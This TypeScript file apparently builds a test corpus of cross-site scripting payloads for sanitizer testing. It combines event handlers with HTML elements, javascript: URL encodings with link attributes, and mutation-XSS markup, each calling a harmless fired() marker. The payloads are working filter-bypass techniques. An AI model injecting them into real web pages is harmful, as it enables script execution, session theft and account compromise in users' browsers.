/**
 * XSS payloads: HTML that runs code where no protection stops it; each calls `fired()`. Combined from parts, so that no
 * shape is missing.
 */

const RUN = 'fired()';

/** Handlers that browsers call automatically, or after a click. */
const EVENTS = [
  ...[
    'load',
    'error',
    'click',
    'focus',
    'focusin',
    'toggle',
    'animationstart',
    'transitionend',
    'begin',
    'beforetoggle',
  ],
  ...[
    'pageshow',
    'hashchange',
    'scroll',
    'loadstart',
    'loadeddata',
    'canplay',
    'play',
    'durationchange',
    'submit',
    'invalid',
  ],
  ...['pointerover', 'pointerenter', 'mouseover', 'wheel', 'copy', 'beforeinput', 'contentvisibilityautostatechange'],
];

/** Elements that call some of the handlers; `$` is replaced by the handler. */
const CARRIERS = [
  ...[
    '<img src=x $>',
    '<img src="data:," $>',
    '<svg $>',
    '<svg><image href=x $ /></svg>',
    '<body $>',
    '<video src=x $></video>',
  ],
  ...['<audio src=x $></audio>', '<video><source $></video>', '<details open $>x</details>', '<input autofocus $>'],
  ...[
    '<select autofocus $></select>',
    '<textarea autofocus $></textarea>',
    '<a href="#" $>x</a>',
    '<iframe $></iframe>',
  ],
  ...[
    '<object data=x $></object>',
    '<embed src=x $>',
    '<link rel=stylesheet href=x $>',
    '<style $>x</style>',
    '<script src=x $></script>',
  ],
  ...[
    '<p tabindex=0 autofocus $>x</p>',
    '<marquee $>x</marquee>',
    '<form $><button>x</button></form>',
    '<x-own autofocus tabindex=1 $>',
  ],
  ...[
    '<svg><animate $ attributeName=x dur=1s></svg>',
    '<math><mi autofocus tabindex=1 $>x</mi></math>',
    '<dialog open $>x</dialog>',
  ],
];

const ADDRESSES = [
  ...[
    'javascript:fired()',
    'JaVaScRiPt:fired()',
    ' javascript:fired()',
    'java\tscript:fired()',
    'java\nscript:fired()',
  ],
  ...['&#106;avascript:fired()', '&#x6A;avascript:fired()', 'javascript&colon;fired()', 'javascript&#58;fired()'],
  ...[
    'javascript:/*--></title>*/fired()',
    'data:text/html,<script>fired()</script>',
    'vbscript:fired()',
    '\u0001javascript:fired()',
  ],
];
const LED = [
  ...[
    '<a href="@">x</a>',
    '<area href="@">',
    '<form action="@"><button>x</button></form>',
    '<button formaction="@">x</button>',
  ],
  ...[
    '<iframe src="@"></iframe>',
    '<embed src="@">',
    '<object data="@"></object>',
    '<svg><a href="@"><text>x</text></a></svg>',
  ],
  ...[
    '<svg><a xlink:href="@"><text>x</text></a></svg>',
    '<math href="@"><mi>x</mi></math>',
    '<base href="@"><a href="x">x</a>',
  ],
  ...[
    '<meta http-equiv="refresh" content="0;url=@">',
    '<img src="@">',
    '<img srcset="@ 1x">',
    '<input type=image src="@">',
  ],
];

/** Markup that two parsers parse differently (mutation XSS). */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<p id="</title><img src=x onerror=${RUN}>"><title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<select><template><option><img src=x onerror=${RUN}></option></template></select><img src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template><svg><script>${RUN}</script></svg>`,
  `<svg><thirdPartyObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<svg><title><style><img src="</style><img src=x onerror=${RUN}>"></title></svg>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<a title='"><img src=x onerror=${RUN}>'>x</a>`,
  `<img src="x\`\` onerror=${RUN}"onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\tsrc=x\nonerror\n=\n${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<<img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}`,
  `<script>${RUN}</script>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN} /><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}' /></svg>#x" /></svg>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  `<p is="x-own" onclick=${RUN}>x</p>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<img src=x onerror=\u0000${RUN}>`,
  `<a href="https://c.example/" target=_self onclick=${RUN}>x</a>`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

/**
 * Every payload: handlers in all carriers, addresses in all link attributes, and markup that parsers disagree about.
 */
export const HTML_PAYLOADS: readonly string[] = [
  ...CARRIERS.flatMap((carrier) => EVENTS.map((event) => carrier.replace('$', `on${event}="${RUN}"`))),
  ...LED.flatMap((led) => ADDRESSES.map((address) => led.replace('@', address))),
  ...MUTATING,
];
